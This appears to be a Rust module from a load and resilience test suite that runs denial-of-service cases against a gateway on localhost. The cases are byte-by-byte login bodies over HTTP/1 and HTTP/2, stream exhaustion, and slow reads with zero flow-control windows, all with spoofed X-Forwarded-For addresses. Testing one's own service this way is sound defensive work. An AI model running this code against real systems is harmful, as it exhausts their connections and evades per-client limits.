//! Endless request bodies, and responses that the client does not read, over HTTP/1 and HTTP/2.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use h2::client::SendRequest;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout};

use super::attack::{self, Target, attacker_address};
use super::{CaseResult, Stage};

/// HTTP/1 connections, half of them at each gateway.
const SOCKETS: usize = 2000;
const CONNECTIONS: usize = 20;
/// Streams per connection: the gateway's maximum.
const STREAMS: usize = 128;
const ADDRESSES: usize = 100;
/// Pause between two bytes.
const PAUSE: Duration = Duration::from_secs(1);
/// Connections per HTTP version that read nothing.
const READERS: usize = 40;
/// Pipelined requests per HTTP/1 connection.
const PIPELINED: usize = 20;
/// The largest response without a session.
const PATH: &str = "/api/openapi.json";
/// Timeout for the rest of a response, and pause after an error.
const LAST_READ: Duration = Duration::from_secs(2);

/// Sign-ins over HTTP/1 whose body arrives byte by byte.
pub async fn bodies(stage: &mut Stage) -> Result<CaseResult> {
    attack::run_clients(stage, stage.or_short(SOCKETS, 200), PAUSE, socket).await
}

async fn socket(target: Target, number: usize) -> Result<()> {
    let mut socket = target.connect(number).await?;
    let head = format!(
        "POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\nX-Requested-With: XMLHttpRequest\r\n\
         X-Forwarded-For: {}\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{{",
        attacker_address(number % ADDRESSES)
    );
    let begun = Instant::now();
    socket.write_all(head.as_bytes()).await?;
    let (mut read, mut write) = socket.split();
    let mut answer = [0; 512];
    while !target.is_over() {
        match timeout(PAUSE, read.read(&mut answer)).await {
            Ok(Ok(length)) => {
                let status = answer.get(9..12).filter(|_| length > 12);
                let status = status.map_or("closed".into(), String::from_utf8_lossy);
                let seconds = begun.elapsed().as_secs() / 5 * 5;
                target.observed(format!("{status} after {seconds} s or more"));
                return Ok(());
            }
            Ok(Err(error)) => return Err(error.into()),
            Err(_) => write.write_all(b" ").await?,
        }
    }
    target.observed("still open");
    Ok(())
}

/// An HTTP/2 connection; `window` is its flow-control window.
pub async fn connect(target: &Target, number: usize, window: u32) -> Result<SendRequest<Bytes>> {
    let socket = target.connect(number).await?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(window);
    let (client, connection) = builder.handshake(socket).await?;
    tokio::spawn(async move {
        let _ = connection.await;
    });
    Ok(client)
}

/// The same over HTTP/2, with the maximum of streams per connection.
pub async fn bodies_http2(stage: &mut Stage) -> Result<CaseResult> {
    attack::run_clients(stage, stage.or_short(CONNECTIONS, 2), PAUSE, streams).await
}

async fn streams(target: Target, number: usize) -> Result<()> {
    let client = connect(&target, number, 65_535).await?;
    let mut open = JoinSet::new();
    for stream in 0..STREAMS {
        let mut client = client.clone().ready().await?;
        let address = attacker_address((number * STREAMS + stream) % ADDRESSES);
        let request = http::Request::post(format!("{}/api/auth/login", target.origin(number)))
            .header("x-requested-with", "XMLHttpRequest")
            .header("x-forwarded-for", address)
            .header("content-type", "application/json")
            .body(())?;
        let (mut answer, mut body) = client.send_request(request, false)?;
        let target = target.clone();
        open.spawn(async move {
            while !target.is_over() {
                if body.send_data(Bytes::from_static(b" "), false).is_err() {
                    target.observed("reset");
                    return;
                }
                match timeout(PAUSE, &mut answer).await {
                    Ok(Ok(answer)) => return target.observed(answer.status().as_str()),
                    Ok(Err(_)) => return target.observed("reset"),
                    Err(_) => {}
                }
            }
            target.observed("still open");
        });
    }
    open.join_all().await;
    Ok(())
}

/// Connections that request much and read nothing, and are checked at the end: open or closed.
pub async fn readers(stage: &mut Stage) -> Result<CaseResult> {
    let connections = stage.or_short(READERS, 4);
    attack::run(stage, async move |target: Target| {
        let by_http1 = attack::repeat(&target, connections, LAST_READ, unread_http1);
        let by_http2 = attack::repeat(&target, connections, LAST_READ, unread_http2);
        tokio::join!(by_http1, by_http2);
    })
    .await
}

async fn unread_http1(target: Target, number: usize) -> Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    let address = ([127, 0, 0, 1], target.port(number)).into();
    let mut socket = socket.connect(address).await?;
    let request = format!(
        "GET {PATH} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: {}\r\n\r\n",
        attacker_address(number)
    );
    let requests = request.repeat(PIPELINED);
    socket.write_all(requests.as_bytes()).await?;
    sleep_until(target.end).await;
    let mut rest = vec![0; 1 << 20];
    while let Ok(read) = timeout(LAST_READ, socket.read(&mut rest)).await {
        if !matches!(read, Ok(1..)) {
            target.observed("HTTP/1 connection closed");
            return Ok(());
        }
    }
    target.observed("HTTP/1 connection still open");
    Ok(())
}

async fn unread_http2(target: Target, number: usize) -> Result<()> {
    let client = connect(&target, number, 0).await?;
    let mut open = JoinSet::new();
    for stream in 0..STREAMS {
        let mut client = client.clone().ready().await?;
        let address = attacker_address(1000 + number * STREAMS + stream);
        let request = http::Request::get(format!("{}{PATH}", target.origin(number)))
            .header("x-forwarded-for", address)
            .body(())?;
        let (answer, _) = client.send_request(request, true)?;
        let target = target.clone();
        open.spawn(async move {
            let Ok(answer) = answer.await else {
                return target.observed("HTTP/2 stream reset");
            };
            let status = answer.status();
            let mut body = answer.into_body();
            let first = timeout(target.end - Instant::now(), body.data()).await;
            target.observed(match first {
                Err(_) => format!("HTTP/2 {status} held"),
                Ok(Some(Ok(_))) => format!("HTTP/2 {status} sent"),
                Ok(_) => format!("HTTP/2 {status} ended"),
            });
        });
        if stream % 16 == 0 {
            sleep(Duration::from_millis(5)).await;
        }
    }
    open.join_all().await;
    sleep_until(target.end).await;
    Ok(())
}
